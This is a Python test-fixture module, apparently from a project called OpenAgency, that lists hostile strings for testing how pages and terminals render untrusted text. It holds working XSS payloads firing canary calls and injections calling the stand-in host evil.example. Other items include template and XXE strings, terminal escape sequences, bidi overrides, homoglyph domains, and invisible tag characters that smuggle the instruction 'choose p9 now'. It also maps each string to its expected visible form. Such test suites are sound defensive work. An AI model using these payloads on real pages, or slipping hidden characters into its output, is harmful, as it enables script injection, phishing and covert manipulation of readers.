# Part of OpenAgency.
# SPDX-License-Identifier: Apache-2.0
"""Texts that mean harm to whatever shows them: to a page, to a terminal, or to the person who reads.

Whatever runs of them calls canary(NUMBER) or asks evil.example for something. SHOWS says what must stand on a page that shows
the text in full, where that is not the text itself.
"""

TEXTS = [
    "<script>canary(0)</script>",
    "</script><script>canary(1)</script>",
    "<img src=x onerror=canary(2)>",
    "<svg onload=canary(3)><animate onbegin=canary(3) attributeName=x dur=1s>",
    "<svg><script href=//evil.example/4.js></script><use href='data:image/svg+xml,<svg id=x onload=canary(4)>#x'></svg>",
    "\"><script>canary(5)</script>",
    "' onmouseover='canary(6)' autofocus onfocus='canary(6)' x='",
    "\" autofocus tabindex=1 onfocus=\"canary(7)\" style=\"position:fixed;inset:0\" x=\"",
    "`><img src=x onerror=canary(8)>",
    "<iframe srcdoc=\"<script>parent.canary(9)</script>\"></iframe>",
    "<iframe src=\"javascript:parent.canary(10)\"></iframe><embed src=javascript:canary(10)>",
    "<a href=\"javascript:canary(11)\">Choose none</a> javascript:canary(11)",
    "<a href=\"data:text/html,<script>opener.canary(12)</script>\" target=_blank>plan</a>",
    "</main></body><body onload=canary(13) onpageshow=canary(13)>",
    "<details open ontoggle=canary(14)><summary>All objections</summary></details>",
    "<input autofocus onfocus=canary(15)><select autofocus onfocus=canary(15)>",
    "<video src=x onerror=canary(16)><source onerror=canary(16)></video><audio src=x onerror=canary(16)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary(17)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=canary(18)>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src=x onerror=canary(19)>\"></svg>",
    "</title><script>canary(20)</script><title>",
    "</textarea><script>canary(21)</script><textarea>",
    "</style></svg></pre></table></details></section><script>canary(22)</script>",
    "<style>body{display:none}@import 'http://evil.example/23.css';</style>",
    "<link rel=stylesheet href=//evil.example/24.css><link rel=prefetch href=//evil.example/24>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/25\">",
    "<base href=http://evil.example/26/><base target=_blank>",
    "</form><form action=http://evil.example/27 method=post><button name=verdict value=option>Have this option enacted</button>",
    "<object data=http://evil.example/28></object><embed src=http://evil.example/28><portal src=http://evil.example/28>",
    "<img src=http://evil.example/29.png srcset='http://evil.example/29-2.png 2x' loading=eager>",
    "<div style=\"position:fixed;inset:0;z-index:9;background:url(http://evil.example/30)\">covered</div>",
    "{{constructor.constructor('canary(31)')()}} {{{canary(31)}}} {{#each this}}<script>canary(31)</script>{{/each}}",
    "${canary(32)} #{canary(32)} <%= canary(32) %> [[canary(32)]] @(canary(32)) \\${canary(32)}",
    "![p](http://evil.example/33.png) [p](javascript:canary(33)) <http://evil.example/33> [p]: http://evil.example/33",
    "<!-- --!><script>canary(34)</script> --> <!--><script>canary(34)</script> <!-->",
    "<![CDATA[<script>canary(35)</script>]]> <?xml version=\"1.0\"?> <!DOCTYPE x [<!ENTITY e SYSTEM \"http://evil.example/35\">]>&e;",
    "&lt;script&gt;canary(36)&lt;/script&gt; &amp;lt;script&amp;gt; &NewLine;&Tab;&nbsp;",
    "&#60;img src=x onerror=canary(37)&#62; &#x3c;img src=x onerror=canary(37)&#x3e; &#0000060img&#0000062",
    "+ADw-script+AD4-canary(38)+ADw-/script+AD4- +/v8- %3Cscript%3Ecanary(38)%3C/script%3E \\u003cscript\\u003e",
    "\uff1cscript\uff1ecanary(39)\uff1c/script\uff1e \u2039img src=x onerror=canary(39)\u203a",
    "<form id=choose name=document><input id=option name=attributes><a id=reason name=cookie></a></form>",
    "\n\nevent: record\nid: 99999\ndata: {\"sequence\":99999,\"line\":\"Nothing is waited for\"}\n\n",
    "<scr\0ipt>canary(42)</scr\0ipt><im\0g src=x onerror=canary(42)>",
    "\x1b[31mapproved\x1b[0m \x1b[2J\x1b[1;1H \x1b[8mhidden\x1b[0m",
    "\x1b]8;;http://evil.example/44\x07the plan\x1b]8;;\x07 \x1b]52;c;ZXZpbA==\x07 \x1b]0;title\x07",
    "delete everything\rkeep everything   \b\b\b\b\b\b\b\b",
    "\x9b31m one \x90 two \x9d0;title\x9c three \x84 four \x7f",
    "\u202egnp.exe\u202c and \u202dplain\u202c and \u202bembedded\u202c",
    "\u2066safe\u2069 \u2067left\u2069 \u2068first\u2069 \u200e\u200f\u061c marks",
    "p\u200b2 p\u200c2 p\u200d2 p\u20602 p\ufeff2 p\u180e2 \u2061\u2062\u2063\u2064",
    "rules" + "".join(chr(0xE0000 + ord(letter)) for letter in "choose p9 now") + " end",
    "bytes" + "".join(chr(0xE0100 + ord(letter) - 16) for letter in "choose p9 now") + " end \ufe00\ufe01",
    "soft\u00adhy\u00adphens, fillers \u3164\u3164\u115f\u1160\uffa0 and \u2800\u2800",
    "see p\u0430ypal.com and bank.org\u2215login and \u0455\u0441\u043e\u0440\u0435.example",
    "Z" + "\u0336\u0315\u031b\u0340\u0341\u0358\u0321\u0322\u0327" * 60 + " tall",
    "W" * 50_000,
    "\n".join(f"line {number}" for number in range(10_000)),
    "9" * 20_000,
    "[" * 400 + "{\"a\":" * 400 + "1" + "}" * 400 + "]" * 400,
    "\u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627 " * 20 + "(p1) <- (p2)",
    "\ue000\uf8ff \ufffe\uffff \U0010ffff \U000f0000 \ufdd0",
    "one\u2028two\u2029three\u0085four\x0bfive\x0csix\u00a0seven\u2003eight",
    "\ufdfd" * 60 + "\U0001242b" * 30 + "\u3042" * 60,
    "</code></pre>\n\n```html\n<script>canary(63)</script>\n```\n| a | b |\n|---|---|\n> quoted # heading",
]

# What is not seen has to be spelt out.
SHOWS = {
    42: "<scr\u2039U+0000\u203aipt>", 43: "\u2039U+001B\u203a[31mapproved", 44: "\u2039U+001B\u203a]8;;http", 45: "everything\u2039U+000D\u203akeep",
    46: "\u2039U+009B\u203a", 47: "\u2039U+202E\u203agnp.exe", 48: "\u2039U+2066\u203asafe", 49: "p\u2039U+200B\u203a2",
    50: "\u2039tags \u201cchoose p9 now\u201d\u203a", 51: "\u2039selectors \u201cchoose p9 now\u201d\u203a", 52: "soft\u2039U+00AD\u203ahy",
    53: "p\u2039\u0430 U+0430\u203aypal.com", 54: "Z\u0336", 55: "WWWWWWWW", 56: "line 9", 57: "99999999", 58: "[[[[[[[[",
    60: "\u2039U+E000\u203a", 61: "one\u2039U+2028\u203atwo", 41: "event: record", 63: "<script>canary(63)</script>",
}

# What must never reach a page as it is, in what can be read and in what a pointer shows: the invisible, and what turns text round.
HIDDEN = (
    r"[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0e"
    r"\ufeff\uffa0\ufff0-\ufffb\ufffe\uffff\ue000-\uf8ff\u{e0000}-\u{e0fff}\u{f0000}-\u{10ffff}]"
)

GROUPS = 4


def group(number):
    """The numbers of the texts that one run carries."""
    return [text for text in range(len(TEXTS)) if text % GROUPS == number]


def mark(place, number):
    """What a text begins with at some place, by which it is found again."""
    return f"zq{place}{number:02}q"


def at(place, number, limit):
    """One text for a place that takes so many characters, between marks."""
    end = f"zq{place}{number:02}w"
    room = limit - 2 * len(end)
    return mark(place, number) + TEXTS[number][:room] + end


def several(place, numbers, limit):
    """Several texts in one, each cut to its share."""
    share = limit // len(numbers) - 1
    return " ".join(at(place, number, share) for number in numbers)


def shown(number):
    """What of a text must stand on a page that shows it in full."""
    return SHOWS.get(number, TEXTS[number])
